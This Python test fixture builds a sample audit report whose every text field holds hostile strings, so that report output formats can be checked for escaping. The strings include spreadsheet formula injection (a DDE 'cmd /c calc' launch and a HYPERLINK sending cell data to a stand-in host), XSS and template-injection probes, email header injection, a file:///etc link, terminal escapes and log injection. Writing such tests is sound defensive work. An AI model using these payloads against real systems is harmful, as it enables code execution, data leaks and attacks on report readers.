"""The sample night in which every text from a source is hostile, for tests of each format (promises T1 to T5, T30)."""

from __future__ import annotations

from dataclasses import replace

from auditor.model.coverage import SourceReport, SourceState
from auditor.model.errors import Reason
from auditor.model.finding import NotAssessed
from auditor.model.report import ReportData
from tests.reports.sample import report

WORDS = (
    '=HYPERLINK("http://x.example/?"&A1,"k")', "+cmd|'/c calc'!A1", "@SUM(1)", "-2+3", "\t=1+1", "\r=1+1", "{=1+1}", "http://evil.example/", "\x00=1",
    "<script>alert(1)</script>", "</style></script><b>", '" onmouseover="alert(1)', "<img src=x onerror=alert(1)>", "{{ 7*7 }}",
    "a\u202eb\u200bc", "x\x1b[31my\nz", "Bcc: evil@x.example\r\n\r\nx", '<a rel=attachment href="file:///etc/hostname">x</a>',
    "<style>@import 'http://evil.example/x.css';</style>", "CEF:0|a|b\\|c=d",
)


def hostile(word: str) -> ReportData:
    """Given a text, return the sample night in which it stands wherever a source can put one."""
    data = report()
    findings = tuple(
        replace(one, username=word, display_name=word, summary=word, right=word, level=word, group=word, advice=(word,),
                evidence={word: word, "facts": {word: [word]}, "employments": [{word: word, "function": word}]},
                sources=({"source": word, "file": word, "row": 3},), title=word,
                decision={"change": "waived", "until": "2027-01-31", "on": "2026-11-01", "owner": word, "by": word, "reason": word},
                history=({"on": one.first_seen_on, "change": "new", "reason": word, "by": word},)) for one in data.findings[:12])
    dark = SourceReport(word, "system", SourceState.REFUSED, word, reasons=(Reason(word, {"name": word}),), examples=(word,))
    return replace(data, board_name=word, findings=findings, schools={"99AA00": word}, systems={"parnassys": word}, sources=(dark,),
                   not_assessed=(NotAssessed("x", Reason("y", {"z": word}), word, word),),
                   matrices=tuple(replace(one, name=word, edition=word) for one in data.matrices))
